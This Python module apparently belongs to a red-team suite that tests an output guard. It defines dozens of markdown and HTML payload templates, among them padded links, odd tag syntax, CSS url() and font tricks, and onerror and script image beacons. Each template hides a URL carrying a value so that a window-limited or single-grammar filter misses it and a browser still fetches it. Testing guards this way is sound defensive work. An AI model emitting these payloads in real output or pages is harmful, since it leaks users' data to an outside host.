"""Channels against a guard that reads a stream through a window, or by one grammar only.

What is long pushes the beginning of a link or tag out of any bounded window before its address
comes; what is odd is read by a browser otherwise than by a simple parser.
"""

from collections.abc import Mapping
from typing import Final

from douane.jobs.redteam.model.channel import Channel

_WORDS: Final = "quarter after quarter " * 30
_SPACES: Final = " " * 700
_LETTERS: Final = "a" * 700
_STEPS: Final = "s/" * 300
_RULES: Final = "i{top:0}" * 90

LONG: Final[Mapping[str, Channel]] = {
    "long-label": lambda load: f"[{_WORDS}]({load.url})",
    "long-image-label": lambda load: f"![{_WORDS}]({load.url})",
    "long-url": lambda load: f"![x](https://{load.host}/{load.name}/{_STEPS}{load.value})",
    "long-autolink": lambda load: f"<https://{load.host}/{load.name}/{_STEPS}{load.value}>",
    "long-bare-url": lambda load: f"At https://{load.host}/{load.name}/{_STEPS}{load.value} now",
    "long-way-to-definition": lambda load: f"See [far].\n\n{_WORDS}\n\n[far]: {load.url}",
    "long-way-from-definition": lambda load: f"[near]: {load.url}\n\n{_WORDS}\n\nSee ![near].",
    "long-definition-label": lambda load: f"![{_LETTERS}]\n\n[{_LETTERS}]: {load.url}",
    "long-tag-spaces": lambda load: f'<img{_SPACES}src="{load.url}">',
    "long-tag-attribute": lambda load: f'<img alt="{_WORDS}" src="{load.url}">',
    "long-tag-name": lambda load: f'<img {_LETTERS} src="{load.url}">',
    "long-comment": lambda load: f'<!-- {_WORDS} --><img src="{load.url}">',
    "long-style": lambda load: f"<style>{_RULES}p{{background:url({load.url})}}</style><p>x</p>",
    "long-style-attribute": lambda load: f'<p style="{"top:0;" * 120}background:url({load.url})">x',
    "long-script": lambda load: f"<script>/*{_WORDS}*/new Image().src='{load.url}'</script>",
    "long-handler": lambda load: (
        f"<img src=x onerror=\"/*{_WORDS}*/new Image().src='{load.url}'\">"
    ),
    "long-srcset": lambda load: f'<img srcset="{load.url}{_SPACES} 1x">',
    "long-code-then-image": lambda load: f"```\n{_WORDS}\n```\n![x]({load.url})",
}

ODD: Final[Mapping[str, Channel]] = {
    "odd-line-ends": lambda load: f'<img\nsrc\n=\n"{load.url}"\n>',
    "odd-form-feed": lambda load: f'<img\x0csrc="{load.url}">',
    "odd-backslash": lambda load: f'\\<img src="{load.url}">',
    "odd-indented": lambda load: f'text\n\n    <img src="{load.url}">',
    "odd-cdata": lambda load: f'<![CDATA[ > <img src="{load.url}"> ]]>',
    "odd-instruction": lambda load: f'<?x > <img src="{load.url}"> ?>',
    "odd-end-tag": lambda load: f'</textarea></title><img src="{load.url}">',
    "odd-image-tag": lambda load: f'<image src="{load.url}">',
    "odd-foreign": lambda load: f'<svg><foreignObject><img src="{load.url}"></foreignObject></svg>',
    "odd-font": lambda load: (
        f"<style>@font-face{{font-family:q;src:url({load.url})}}p{{font-family:q}}</style><p>x</p>"
    ),
    "odd-image-set": lambda load: f"<p style='background:image-set(\"{load.url}\" 1x)'>x</p>",
    "odd-variable": lambda load: f'<p style="--u:url({load.url});background:var(--u)">x</p>',
    "odd-content": lambda load: f'<p style="content:url({load.url})">x</p>',
    "odd-css-comment": lambda load: (
        f'<p style="background:/**/url(/**/{load.url})">x</p>'
        f'<p style="background:url({load.query})">x</p>'
    ),
    "odd-label-case": lambda load: f"![QuEry]\n\n[qUeRY]: {load.url}",
    "odd-label-lines": lambda load: f"![two\nlines]\n\n[two lines]: {load.url}",
    "odd-definition-entity": lambda load: f"![ent]\n\n[ent]: &#104;ttps&colon;//{load.path}",
    "odd-definition-in-list": lambda load: f"- ![lst]\n- [lst]: {load.url}",
    "odd-tight": lambda load: f"word![x]({load.url})word",
    "odd-two-links": lambda load: f"[a](b)[c]({load.url})",
    "odd-escaped-bracket": lambda load: f"[a\\](b)]({load.url})",
    "odd-code-in-label": lambda load: f"[`](x)`]({load.url})",
    "odd-zero-width-before": lambda load: f"\u200b{load.url}",
    "odd-in-brackets": lambda load: f"({load.url})",
    "odd-in-quotes": lambda load: f'"{load.url}"',
    "odd-after-sign": lambda load: f"=>{load.url}<=",
}
